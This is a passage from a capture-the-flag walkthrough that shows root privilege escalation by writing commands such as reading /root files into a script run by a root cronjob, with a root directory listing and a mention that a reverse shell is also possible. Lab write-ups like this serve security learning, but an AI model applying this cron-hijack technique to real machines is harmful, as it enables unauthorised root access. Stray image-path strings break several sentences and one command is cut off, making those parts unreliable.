boring@kral4-PC:/tmp$ cd ..
boring@kral4-PC:/$ cd /tmp
boring@kral4-PC:/tmp$ touch flag
boring@kral4-PC:/tmp$ chmod 660 flag
boring@kral4-PC:/tmp$ nano /var/www/

In nano, we can add the command cat /root/root.txt > /tmp/flag and save it. Once, all these steps are performed, we can wait for a minute so that the cronjob gets executed and the flag gets printed to our /tmp/flag file.

But even after waiting for some considerable time, nothing gets printed to the file. So, we need to check if the file root.txt is actually present at the location or so. This can be done by adding the command: ls -la /root > /tmp/flag to /var/www/ and againwait for sometime to see the output.

boring@kral4-PC:/tmp$ cat flag
total 40
drwx--- 5 root root 4096 Jun 15 12:40 .
drwxr-xr-x 23 root root 4096 Jun 15 01:08 ..
-rw--- 1 root root 883 Jun 15 14:24 .bash_history
-rw-r--r-- 1 root root 3136 Jun 15 12:40 .bashrc
drwx--- 2 root root 4096 Jun 13 15:40 .cache
drwx--- 3 root root 4096 Jun 13 15:40 .gnupg
drwxr-xr-x 3 root root 4096 Jun 13 15:44 .local
-rw-r--r-- 1 rootroot 148 Aug 17 2015 .profile
-rw-r--r-- 1 root root 39 Jun 15 01:01 .root.txt
-rw-r--r-- 1 root root 66 Jun 14 21:48 .selected_editor

Here, we can see that the file has been named as .root.txt so we need to change our previous command a little bit like: cat /root/.root.txt > /tmp/flag and again wait for some time.

With this, we will get the root flag as well as complete the room!

As I said earlier, there was a lot of enumeration involved at the beginning to gain the initial foothold whereas the privilege escalation part was pretty simple. We could have used payloads to get a reverse shell as well if we wanted to by exploiting the shell file.

Some Key Points to Take Away

  1. Look closely at all the information on a web page aswe can find some sensitive information.
  2. In case of any string first, check it with hash-identifier and then check for different encoding methods to crack it.
  3. If you see any doubtful image, check it for steganography.

Tools to keep in handy:

  1. CyberChef
  2. Ultimate Hashing and Anonymity Toolkit

Do readmy other walkthroughs on GitHub at: